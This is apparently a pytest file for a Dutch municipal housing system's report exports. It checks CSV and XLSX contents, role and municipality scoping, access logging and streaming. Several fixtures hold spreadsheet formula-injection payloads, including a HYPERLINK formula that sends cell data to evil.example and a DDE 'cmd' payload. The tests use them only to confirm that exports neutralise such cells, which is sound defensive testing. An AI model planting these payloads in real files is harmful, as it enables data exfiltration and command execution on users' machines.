"""Reports and exports (SPEC §8): headers, types and figures read back with real CSV and XLSX
readers, formula injection, scope and roles, access log, query budgets, streaming."""

import datetime as dt
import inspect
from decimal import Decimal

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from accesslog.models import AccessRecord
from figures import figures
from housing.periods import Period
from reports import placements as placements_module
from reports.exports import csv_lines, neutralise
from residents.models import Placement
from tests.factories import (
    GRONINGEN,
    UTRECHT,
    HouseholdFactory,
    PlacementFactory,
    PropertyFactory,
    QuotaFactory,
    RegionFactory,
    ResidentFactory,
    municipality,
)
from tests.reports.reports_helpers import body, read_csv, read_xlsx, read_xlsx_cells

PERIOD = Period.current()
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'
QUOTA_HEADER = [
    "gemeentecode",
    "gemeente",
    "periode",
    "taakstelling",
    "achterstand_vorige_periode",
    "gerealiseerd",
    "tijdelijk_gehuisvest",
    "nog_te_huisvesten",
    "werkelijke_opgave",
]
PLACEMENTS_HEADER = [
    "huishouden",
    "bewoner",
    "categorie",
    "gemeentecode",
    "woonlocatie",
    "locatie_gemeentecode",
    "soort",
    "start",
    "geplande_einde",
    "einde",
    "verlengingsreden",
    "uitstroom",
]
REGION_HEADER = [
    "gemeentecode",
    "gemeente",
    "taakstelling",
    "aandeel",
    "bijdrage",
    "afwijking",
    "wettelijke_taakstelling",
]


def household_with_placements(code, prop, *, residents=1, kind=Placement.Kind.HAR, start=None, **extra):
    household = HouseholdFactory(municipality=municipality(code))
    start = start or PERIOD.start
    result = []
    for _ in range(residents):
        resident = ResidentFactory(household=household)
        result.append(
            PlacementFactory(
                resident=resident,
                property=prop,
                kind=kind,
                start_date=start,
                planned_end=start + dt.timedelta(days=180),
                **extra,
            )
        )
    return household, result


@pytest.fixture
def world(db):
    g, u = municipality(GRONINGEN), municipality(UTRECHT)
    QuotaFactory(municipality=g, year=PERIOD.year, half=PERIOD.half, target=10, carried_over=3)
    QuotaFactory(municipality=u, year=PERIOD.year, half=PERIOD.half, target=5, carried_over=-2)
    evil = PropertyFactory(municipality=g, name=EVIL_NAME, capacity=20)
    home = PropertyFactory(municipality=g, name="Woning Groningen", capacity=20, kind="house")
    utrecht = PropertyFactory(
        municipality=u, name="Klooster Utrecht", place="Utrecht", postcode="3511 AA", capacity=20
    )
    a, a_placements = household_with_placements(
        GRONINGEN, evil, residents=2, extension_reason="+cmd|' /C calc'!A0"
    )
    b, _ = household_with_placements(GRONINGEN, home, kind=Placement.Kind.PERMANENT)
    c, _ = household_with_placements(UTRECHT, utrecht)
    return {"g": g, "u": u, "a": a, "b": b, "c": c, "evil": evil, "a_placements": a_placements}


def get(client, user, url):
    client.force_login(user)
    return client.get(url)


# --- quota report -----------------------------------------------------------------------------


def test_quota_csv_has_exact_header_bom_semicolons_and_the_figures_module_numbers(client, coordinator, world):
    response = get(client, coordinator, f"/reports/quota.csv?period={PERIOD}")
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    data = body(response)
    assert data.split(b"\r\n")[0] == b"\xef\xbb\xbf" + ";".join(QUOTA_HEADER).encode()
    rows = read_csv(data)
    assert rows[0] == QUOTA_HEADER
    expected = figures.municipality_figures(PERIOD, figures.ALL)
    assert [r[0] for r in rows[1:]] == [f.cbs_code for f in expected]
    for row, fig in zip(rows[1:], expected, strict=True):
        assert row == [
            fig.cbs_code,
            fig.name,
            str(PERIOD),
            str(fig.target),
            str(fig.carried_over),
            str(fig.realised),
            str(fig.temporary),
            str(fig.remaining),
            str(fig.actual_task),
        ]
    groningen = next(r for r in rows if r[0] == GRONINGEN)
    assert groningen[3:] == ["10", "3", "3", "2", "10", "12"]


def test_quota_xlsx_has_typed_cells_frozen_header_and_same_figures(client, coordinator, world):
    response = get(client, coordinator, f"/reports/quota.xlsx?period={PERIOD}")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    ws, rows = read_xlsx(response)
    assert rows[0] == QUOTA_HEADER
    assert ws.freeze_panes == "A2"
    expected = {f.cbs_code: f for f in figures.municipality_figures(PERIOD, figures.ALL)}
    assert len(rows) - 1 == len(expected)
    for row in rows[1:]:
        fig = expected[row[0]]
        assert all(type(v) is int for v in row[3:]), row
        assert row[3:] == [
            fig.target,
            fig.carried_over,
            fig.realised,
            fig.temporary,
            fig.remaining,
            fig.actual_task,
        ]
    utrecht = next(r for r in rows if r[0] == UTRECHT)
    assert utrecht[4] == -2, "a lead is a negative number, not neutralised text"


def test_quota_report_of_staff_covers_only_their_municipality(client, staff_utrecht, world):
    rows = read_csv(get(client, staff_utrecht, f"/reports/quota.csv?period={PERIOD}"))
    assert [r[0] for r in rows[1:]] == [UTRECHT]


def test_quota_report_filtered_by_region(client, coordinator, world):
    region = RegionFactory(members=[world["g"], municipality("GM0037")])
    rows = read_csv(get(client, coordinator, f"/reports/quota.csv?period={PERIOD}&region={region.pk}"))
    assert sorted(r[0] for r in rows[1:]) == ["GM0014", "GM0037"]


# --- placements export ------------------------------------------------------------------------


def test_placements_csv_has_exact_header_iso_dates_references_and_no_names(client, staff_groningen, world):
    response = get(client, staff_groningen, f"/reports/placements.csv?period={PERIOD}")
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    rows = read_csv(response)
    assert rows[0] == PLACEMENTS_HEADER
    assert len(rows) == 1 + 3
    text = body(get(client, staff_groningen, f"/reports/placements.csv?period={PERIOD}")).decode("utf-8-sig")
    for resident in world["a"].residents.all():
        assert resident.reference in text
        assert resident.family_name not in text and resident.given_name not in text
        assert resident.v_number not in text
    row = next(r for r in rows if r[1] == world["a_placements"][0].resident.reference)
    assert row[0] == world["a"].reference
    assert row[2:4] == ["regular", GRONINGEN]
    assert row[5:8] == [GRONINGEN, "har", PERIOD.start.isoformat()]
    assert row[8] == (PERIOD.start + dt.timedelta(days=180)).isoformat()
    assert row[9] == ""


def test_placements_xlsx_has_dates_as_dates(client, staff_groningen, world):
    ws, rows = read_xlsx(get(client, staff_groningen, f"/reports/placements.xlsx?period={PERIOD}"))
    assert rows[0] == PLACEMENTS_HEADER
    assert ws.freeze_panes == "A2"
    assert len(rows) == 4
    for row in rows[1:]:
        assert isinstance(row[7], dt.datetime | dt.date) and row[7].date() == PERIOD.start
        assert isinstance(row[8], dt.datetime | dt.date)
        assert row[9] is None


def test_formula_injection_comes_out_inert_in_csv(client, staff_groningen, world):
    rows = read_csv(get(client, staff_groningen, f"/reports/placements.csv?period={PERIOD}"))
    evil_rows = [r for r in rows[1:] if r[0] == world["a"].reference]
    assert evil_rows
    for row in evil_rows:
        assert row[4] == "'" + EVIL_NAME
        assert row[10] == "'+cmd|' /C calc'!A0"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_formula_injection_comes_out_inert_in_xlsx(client, staff_groningen, world):
    _ws, rows = read_xlsx_cells(get(client, staff_groningen, f"/reports/placements.xlsx?period={PERIOD}"))
    evil_rows = [r for r in rows[1:] if r[0].value == world["a"].reference]
    assert evil_rows
    for row in evil_rows:
        assert row[4].value == "'" + EVIL_NAME and row[4].data_type == "s"
        assert row[10].value == "'+cmd|' /C calc'!A0" and row[10].data_type == "s"
    assert not any(cell.data_type == "f" for row in rows for cell in row)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_prefixes_an_apostrophe_to_formula_starts(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x", " =x", "Pastorie", "", "é=", "🏠+"]
)
def test_neutralised_in_the_database_is_neutralise(world, value):
    from reports.exports import neutralised

    placement = world["a_placements"][0]
    Placement.objects.filter(pk=placement.pk).update(extension_reason=value)
    cell = Placement.objects.filter(pk=placement.pk).values_list(neutralised("extension_reason"), flat=True)
    assert cell.get() == neutralise(value)


@pytest.mark.parametrize("value", ["Pastorie", "", "9711 AB", -5, 3, None, dt.date(2026, 7, 1)])
def test_neutralise_leaves_other_values_alone(value):
    assert neutralise(value) == value


def test_staff_of_utrecht_gets_no_groningen_placements(client, staff_utrecht, world):
    rows = read_csv(get(client, staff_utrecht, f"/reports/placements.csv?period={PERIOD}"))
    assert [r[0] for r in rows[1:]] == [world["c"].reference]
    assert {r[3] for r in rows[1:]} == {UTRECHT}


def test_placements_filtered_to_a_municipality_include_households_placed_there(client, pioneer, world):
    other = HouseholdFactory(municipality=municipality("GM0037"))
    PlacementFactory(
        resident=ResidentFactory(household=other), property=world["evil"], start_date=PERIOD.start
    )
    rows = read_csv(get(client, pioneer, f"/reports/placements.csv?period={PERIOD}&municipality=GM0037"))
    assert [r[0] for r in rows[1:]] == [other.reference]
    rows = read_csv(get(client, pioneer, f"/reports/placements.csv?period={PERIOD}&municipality=GM0014"))
    assert other.reference in {r[0] for r in rows[1:]}, "placed in a Groningen property"


def test_placements_outside_the_period_are_left_out(client, staff_groningen, world):
    previous = PERIOD.previous()
    rows = read_csv(get(client, staff_groningen, f"/reports/placements.csv?period={previous}"))
    assert rows == [PLACEMENTS_HEADER]


def test_placements_export_logs_every_resident_once(client, staff_groningen, world):
    AccessRecord.objects.all()  # the table exists
    before = AccessRecord.objects.count()
    response = get(client, staff_groningen, f"/reports/placements.csv?period={PERIOD}")
    read_csv(response)
    entries = AccessRecord.objects.all()[: AccessRecord.objects.count() - before]
    expected = {
        ("residents.resident", str(r.pk), r.reference)
        for h in (world["a"], world["b"])
        for r in h.residents.all()
    }
    assert {(e.subject_type, e.subject_id, e.subject_reference) for e in entries} == expected
    assert len(entries) == 3
    assert {e.action for e in entries} == {"export"}
    assert {e.actor_id for e in entries} == {staff_groningen.pk}


def _placements_request(rf, user, path="/reports/placements.csv"):
    from figures.selection import build_selection

    request = rf.get(path, REMOTE_ADDR="192.0.2.10")
    request.user = user
    selection = build_selection(user, request.GET, personal=True, strict=True)
    return request, placements_module.placements_queryset(user, selection)


def test_placements_export_logs_every_resident_before_the_first_row_leaves(rf, staff_groningen, world):
    request, queryset = _placements_request(rf, staff_groningen)
    batches = placements_module.logged_batches(request, queryset, batch_size=2)
    assert inspect.isgenerator(batches), "a stream, not a list of every row"
    assert not AccessRecord.objects.exists(), "nothing is logged before the stream starts"
    first = next(batches)
    assert len(first) == 2, "rows come in batches"
    expected = {(str(r.pk), r.reference) for h in (world["a"], world["b"]) for r in h.residents.all()}
    logged = AccessRecord.objects.all()
    assert {(e.subject_id, e.subject_reference) for e in logged} == expected, "all rows, up front"
    rest = list(batches)
    assert [len(batch) for batch in rest] == [1]
    assert AccessRecord.objects.count() == 3, "and nothing more while the rest is sent"
    assert len(first[0]) == len(PLACEMENTS_HEADER) + 1, "the resident id comes last, for the log"


def test_placements_export_log_rows_are_those_log_access_writes(rf, staff_groningen, world):
    from accesslog.log import log_access

    request, queryset = _placements_request(
        rf, staff_groningen, "/reports/placements.csv?period=" + str(PERIOD)
    )
    list(placements_module.logged_rows(request, queryset))
    resident = world["b"].residents.get()
    exported = AccessRecord.objects.get(subject_id=str(resident.pk))
    log_access(request, "export", [resident], purpose=placements_module.PURPOSE)
    direct = AccessRecord.objects.exclude(entry_id=exported.entry_id).get(subject_id=str(resident.pk))
    fields = [f.name for f in AccessRecord._meta.concrete_fields if f.name not in ("entry", "occurred_at")]
    assert {f: getattr(exported, f) for f in fields} == {f: getattr(direct, f) for f in fields}
    assert exported.subject_type == "residents.resident" and exported.client_address == "192.0.2.10"
    assert exported.request_path == f"/reports/placements.csv?period={PERIOD}"
    assert abs(exported.occurred_at - direct.occurred_at) < dt.timedelta(minutes=1)


def _open_cursors():
    if connection.vendor != "postgresql":
        return 0
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_cursors")
        return cursor.fetchone()[0]


@pytest.mark.django_db(transaction=True)
def test_placements_export_in_autocommit_logs_and_reads_one_snapshot_and_closes_its_cursor(
    client, rf, staff_groningen, world
):
    """As in production, outside a transaction: the log is committed before the first row, the rows
    are those the log names (a placement made meanwhile is not in this export), no cursor is left."""
    request, queryset = _placements_request(rf, staff_groningen)
    batches = placements_module.logged_batches(request, queryset, batch_size=1)
    with CaptureQueriesContext(connection) as ctx:
        first = next(batches)
    assert not connection.in_atomic_block
    if connection.vendor == "postgresql":
        # The export's join runs once, into a temporary table that the log and the cursor both read.
        statements = [q["sql"] for q in ctx.captured_queries]
        assert statements[0] == "BEGIN" and statements[-1] == "COMMIT"
        create, log, rows = statements[1:-1]
        table = create.split()[3]
        assert create.startswith(f"CREATE TEMPORARY TABLE {table} ON COMMIT DROP AS SELECT")
        assert "residents_placement" in create
        assert (
            log.startswith("WITH subject (subject_id, subject_reference) AS MATERIALIZED")
            and f"FROM {table}" in log
        )
        assert "residents_placement" not in log
        assert rows.startswith("DECLARE") and rows.endswith(f"CURSOR WITH HOLD FOR SELECT * FROM {table}")
    assert AccessRecord.objects.count() == 3
    PlacementFactory(
        resident=ResidentFactory(household=world["b"]), property=world["evil"], start_date=PERIOD.start
    )
    assert len([first, *batches]) == 3
    assert AccessRecord.objects.count() == 3
    assert _open_cursors() == 0

    batches = placements_module.logged_batches(request, queryset, batch_size=1)
    next(batches)
    batches.close()  # the client went away after the first batch
    assert _open_cursors() == 0
    assert AccessRecord.objects.count() == 3 + 4, "logged for all rows, also those not sent"

    client.force_login(staff_groningen)
    assert len(read_csv(client.get(f"/reports/placements.csv?period={PERIOD}"))) == 1 + 4
    assert _open_cursors() == 0


def test_placements_export_rows_come_in_the_export_order_and_the_log_names_exactly_their_residents(
    rf, pioneer, world
):
    """Many rows written in an order unlike the export's (references, municipalities, start dates):
    the stream is the ordered query's rows, and the log holds each of their residents once. On
    PostgreSQL the rows pass through the temporary table; SQLite reads the query itself."""
    for n in range(12):
        prop = PropertyFactory(municipality=world["g" if n % 3 else "u"], capacity=10)
        household_with_placements(
            GRONINGEN if n % 2 else "GM0037",
            prop,
            residents=1 + n % 3,
            start=PERIOD.start + dt.timedelta(days=(7 * n) % 5),
        )
    request, queryset = _placements_request(rf, pioneer, f"/reports/placements.csv?period={PERIOD}")
    expected = list(queryset)
    streamed = [
        row for batch in placements_module.logged_batches(request, queryset, batch_size=5) for row in batch
    ]
    assert len(streamed) > 20
    assert [tuple(row) for row in streamed] == [tuple(row) for row in expected]
    logged = AccessRecord.objects.values_list("subject_id", "subject_reference")
    residents = {(str(row[-1]), row[1]) for row in expected}
    assert sorted(logged) == sorted(residents), "each exported resident once, nobody else"


@pytest.mark.django_db(transaction=True)
def test_two_placements_exports_in_one_transaction_each_log_their_own_rows(rf, staff_groningen, world):
    """A caller's transaction may open two exports before reading either (each materialises its
    rows under its own name on PostgreSQL)."""
    from django.db import transaction

    request, queryset = _placements_request(rf, staff_groningen)
    with transaction.atomic():
        first = placements_module.logged_batches(request, queryset, batch_size=2)
        second = placements_module.logged_batches(request, queryset, batch_size=2)
        first_rows, second_rows = next(first), next(second)
        rest = list(first), list(second)
    assert first_rows == second_rows and rest[0] == rest[1]
    assert AccessRecord.objects.count() == 2 * 3
    assert _open_cursors() == 0


def test_an_empty_placements_queryset_logs_nothing(rf, staff_groningen, world):
    request, _queryset = _placements_request(rf, staff_groningen)
    empty = Placement.objects.none().values_list(*placements_module._FIELDS)
    assert list(placements_module.logged_batches(request, empty)) == []
    assert not AccessRecord.objects.exists()


@pytest.mark.parametrize(
    "name", [EVIL_NAME, "+31 50 123", "-min", "@home", "\tTab", "\rCR", 'Huis "De Ster"; 2']
)
def test_placements_csv_is_byte_for_byte_the_generic_csv_of_the_same_rows(client, rf, pioneer, world, name):
    """The fast CSV path writes exactly what `csv_lines` writes for the ORM's rows."""
    odd = PropertyFactory(municipality=world["g"], name=name, capacity=20)
    household = HouseholdFactory(municipality=world["g"], category="ex_amv")
    for n, (reason, outflow, planned, end) in enumerate(
        [
            ("=1+1", "left", None, PERIOD.start + dt.timedelta(days=30)),
            ('regel 1\nregel 2; "citaat"', "", PERIOD.start + dt.timedelta(days=400), None),
            ("é ñ ✓ 🏠", "permanent_here", None, None),
        ]
    ):
        PlacementFactory(
            resident=ResidentFactory(household=household),
            property=odd,
            kind=Placement.Kind.TRANSIT if n else Placement.Kind.HAR,
            start_date=PERIOD.start + dt.timedelta(days=n),
            planned_end=planned,
            end_date=end,
            extension_reason=reason,
            outflow=outflow,
        )
    url = f"/reports/placements.csv?period={PERIOD}"
    client.force_login(pioneer)
    fast = body(client.get(url))

    _request, queryset = _placements_request(rf, pioneer, url)
    generic = b"".join(csv_lines(placements_module.HEADER, (row[:-1] for row in queryset)))
    assert len(read_csv(fast)) == 1 + 3 + 3
    assert fast == generic


def _count_queries(client, url):
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url)
        body(response)
    assert response.status_code == 200
    return len(ctx.captured_queries)


@pytest.mark.parametrize(
    "url",
    [
        "/reports/placements.csv",
        "/reports/placements.xlsx",
        "/reports/signals.csv",
        "/reports/quota.csv",
        "/reports/evidence.xlsx",
    ],
)
def test_export_query_count_does_not_grow_with_rows(client, pioneer, world, url):
    client.force_login(pioneer)
    url = f"{url}?period={PERIOD}"
    small = _count_queries(client, url)
    for n in range(6):
        prop = PropertyFactory(municipality=world["g"], capacity=10)
        household_with_placements(
            GRONINGEN if n % 2 else "GM0037", prop, residents=3, extension_reason=f"reden {n}"
        )
    large = _count_queries(client, url)
    assert large == small, f"{url}: {small} queries for few rows, {large} for more"
    assert large <= 12


def test_region_export_query_count_is_fixed(client, coordinator, world, django_assert_max_num_queries):
    region = RegionFactory(members=[world["g"], world["u"]])
    client.force_login(coordinator)
    with django_assert_max_num_queries(8):
        body(client.get(f"/reports/regions/{region.pk}.csv?period={PERIOD}"))


# --- roles and scope ------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["placements", "signals"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_coordinator_gets_403_for_personal_data_exports(client, coordinator, world, name, fmt):
    response = get(client, coordinator, f"/reports/{name}.{fmt}?period={PERIOD}")
    assert response.status_code == 403
    assert not AccessRecord.objects.filter(result="success").exists()


@pytest.mark.parametrize("name", ["quota", "evidence"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_coordinator_gets_figure_reports(client, coordinator, world, name, fmt):
    assert get(client, coordinator, f"/reports/{name}.{fmt}?period={PERIOD}").status_code == 200


def test_user_without_role_gets_no_report(client, no_role_user, world):
    assert get(client, no_role_user, f"/reports/quota.csv?period={PERIOD}").status_code == 403


def test_anonymous_user_is_sent_to_login(client, world):
    response = client.get("/reports/quota.csv")
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize(
    "url",
    [
        "/reports/placements.csv?municipality=GM0014",
        "/reports/quota.csv?municipality=GM0014",
        "/reports/signals.xlsx?municipality=GM0014",
        "/reports/evidence.csv?municipality=GM0014",
        "/reports/quota.csv?municipality=GM9999",
        "/reports/progress/GM0014/",
        "/reports/progress/GM0014.pdf",
    ],
)
def test_foreign_municipality_answers_404(client, staff_utrecht, world, url):
    assert get(client, staff_utrecht, url).status_code == 404


def test_foreign_region_answers_404(client, staff_utrecht, world):
    region = RegionFactory(name="Regio Groningen", members=[world["g"]])
    for url in (
        f"/reports/regions/{region.pk}.csv",
        f"/reports/regions/{region.pk}.xlsx",
        f"/reports/quota.csv?region={region.pk}",
        f"/reports/progress/region/{region.pk}/",
        "/reports/regions/999999.csv",
    ):
        assert get(client, staff_utrecht, url).status_code == 404, url


@pytest.mark.parametrize(
    ("url", "dutch"),
    [
        ("/reports/quota.csv?period=2026-H3", "Ongeldige periode"),
        ("/reports/placements.xlsx?period=morgen", "Ongeldige periode"),
        ("/reports/quota.csv?municipality=Groningen", "Ongeldige gemeentecode"),
        ("/reports/evidence.csv?region=abc", "Ongeldige regio"),
        ("/reports/?period=1999-H1", "Ongeldige periode"),
        ("/reports/progress/GM0014/?period=x", "Ongeldige periode"),
    ],
)
def test_bad_parameters_answer_400_in_dutch(client, pioneer, world, url, dutch):
    response = get(client, pioneer, url)
    assert response.status_code == 400
    assert dutch in response.content.decode()


def test_unknown_format_is_404(client, pioneer, world):
    assert get(client, pioneer, "/reports/quota.pdf").status_code == 404


# --- region report ----------------------------------------------------------------------------


def test_region_report_matches_region_figures(client, staff_groningen, world):
    region = RegionFactory(members=[world["g"], world["u"]])
    response = get(client, staff_groningen, f"/reports/regions/{region.pk}.csv?period={PERIOD}")
    rows = read_csv(response)
    assert rows[0] == REGION_HEADER
    expected = figures.region_figures(region, PERIOD)
    assert [r[0] for r in rows[1:]] == [m.cbs_code for m in expected.members]
    for row, member in zip(rows[1:], expected.members, strict=True):
        assert int(row[2]) == member.target
        assert Decimal(row[3].replace(",", ".")) == member.share
        assert Decimal(row[4].replace(",", ".")) == member.contribution
        assert Decimal(row[5].replace(",", ".")) == member.deviation

    ws, xrows = read_xlsx(get(client, staff_groningen, f"/reports/regions/{region.pk}.xlsx?period={PERIOD}"))
    assert xrows[0] == REGION_HEADER
    for row, member in zip(xrows[1:], expected.members, strict=True):
        assert type(row[2]) is int
        assert isinstance(row[3], float) and row[3] == pytest.approx(float(member.share))
        assert row[5] == pytest.approx(float(member.deviation))
    assert ws["D2"].number_format == "0.0%"


# --- signals report ---------------------------------------------------------------------------


def test_signals_report_rows_match_open_signals_and_are_logged(client, staff_groningen, world):
    from figures import signals

    expected = signals.open_signals(staff_groningen, today=PERIOD.reference_date())
    assert expected, "the world has open signals (care gaps: no GP registered)"
    rows = read_csv(get(client, staff_groningen, f"/reports/signals.csv?period={PERIOD}"))
    assert rows[0] == [
        "soort",
        "signaal",
        "huishouden",
        "gemeentecode",
        "gemeente",
        "datum",
        "aantal_bewoners",
    ]
    assert [(r[0], r[2], r[3], r[5], int(r[6])) for r in rows[1:]] == [
        (s.kind, s.household_reference, s.municipality_code, s.date.isoformat() if s.date else "", s.count)
        for s in expected
    ]
    assert world["c"].reference not in {r[2] for r in rows}
    logged = set(
        AccessRecord.objects.filter(subject_type="residents.household").values_list(
            "subject_reference", flat=True
        )
    )
    assert logged == {s.household_reference for s in expected}

    _ws, xrows = read_xlsx(get(client, staff_groningen, f"/reports/signals.xlsx?period={PERIOD}"))
    assert len(xrows) == len(rows)
    assert all(isinstance(r[5], dt.datetime | dt.date) for r in xrows[1:] if r[5] is not None)
    assert all(type(r[6]) is int for r in xrows[1:])


def _signals_request(rf, user):
    from figures.selection import build_selection

    request = rf.get("/reports/signals.csv")
    request.user = user
    return request, build_selection(user, request.GET, personal=True, strict=True)


def test_signals_export_streams_and_logs_each_household_once_before_its_rows(rf, staff_groningen, world):
    from reports import tables
    from tests.figures.signals_helpers import old_open_signals

    for n in range(4):  # more signals and households than one batch of 2
        household_with_placements(GRONINGEN, PropertyFactory(municipality=world["g"]), residents=1 + n % 2)
    expected = old_open_signals(staff_groningen, today=PERIOD.reference_date())
    rows = tables.signal_rows(*_signals_request(rf, staff_groningen), batch_size=2)
    assert inspect.isgenerator(rows), "a stream, not a list of every row"

    def logged():
        records = AccessRecord.objects.order_by("entry_id", "subject_id")
        return list(records.values_list("subject_reference", flat=True))

    first = next(rows)
    first_batch = {s.household_reference for s in expected[:2]}
    assert sorted(logged()) == sorted(first_batch), "a batch's households are logged before its first row"
    assert len(first) == len(tables.SIGNALS_HEADER)
    rest = [first, *rows]
    assert [(r[0], r[2], r[5], r[6]) for r in rest] == [
        (s.kind, s.household_reference, s.date, s.count) for s in expected
    ]
    references = logged()
    assert len(references) == len(set(references)), "each household once per export"
    assert set(references) == {s.household_reference for s in expected}
    assert len(references) < len(expected)  # households with several signals
    entry = AccessRecord.objects.first()
    assert (entry.subject_type, entry.action, entry.purpose) == (
        "residents.household",
        "export",
        "report_signals",
    )


def test_signals_csv_batches_are_the_bytes_of_the_generic_csv(rf, staff_groningen, world):
    from reports import tables
    from reports.exports import csv_batch_lines, csv_lines

    municipality_obj = world["g"]
    municipality_obj.name = "=HYPERLINK(1)"  # free text: neutralised in both
    municipality_obj.save()
    for n in range(3):
        household_with_placements(
            GRONINGEN, PropertyFactory(municipality=municipality_obj), residents=1 + n % 2
        )
    request, report_scope = _signals_request(rf, staff_groningen)
    generic = b"".join(csv_lines(tables.SIGNALS_HEADER, tables.signal_rows(request, report_scope)))
    batched = b"".join(
        csv_batch_lines(tables.SIGNALS_HEADER, tables.signal_csv_batches(request, report_scope, batch_size=2))
    )
    assert batched == generic
    assert b"'=HYPERLINK(1)" in batched and generic.count(b"\r\n") > 4


# --- index page -------------------------------------------------------------------------------


def test_index_lists_every_report_with_period_and_scope(client, staff_groningen, world):
    response = get(client, staff_groningen, f"/reports/?period={PERIOD}&municipality=GM0014")
    assert response.status_code == 200
    content = response.content.decode()
    for url in (
        "/reports/quota.csv",
        "/reports/quota.xlsx",
        "/reports/placements.csv",
        "/reports/signals.xlsx",
        "/reports/evidence.csv",
        "/reports/progress/GM0014/",
        "/reports/progress/GM0014.pdf",
    ):
        assert url in content, url
    assert f"period={PERIOD}&amp;municipality=GM0014" in content


def test_index_for_coordinator_offers_figures_only(client, coordinator, world):
    content = get(client, coordinator, "/reports/").content.decode()
    assert "/reports/quota.csv" in content
    assert "/reports/placements.csv" not in content and "/reports/signals.csv" not in content
